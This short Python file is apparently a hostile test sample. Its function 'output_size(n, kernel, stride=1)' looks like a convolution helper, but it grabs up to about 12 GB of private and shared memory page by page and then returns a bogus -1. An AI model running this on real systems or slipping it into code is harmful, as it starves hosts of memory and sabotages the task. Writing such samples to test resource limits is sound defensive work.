# Takes memory piece by piece, in the process and in a shared mapping (at most 12 GB).
# attacks: output_size
import mmap


def output_size(n, kernel, stride=1):
    kept = []
    for _ in range(24):
        try:
            kept.append(bytearray(b"x") * 2**28)
        except MemoryError:
            pass
        shared = mmap.mmap(-1, 2**28)
        for page in range(0, 2**28, 4096):
            shared[page] = 1
        kept.append(shared)
    return -1
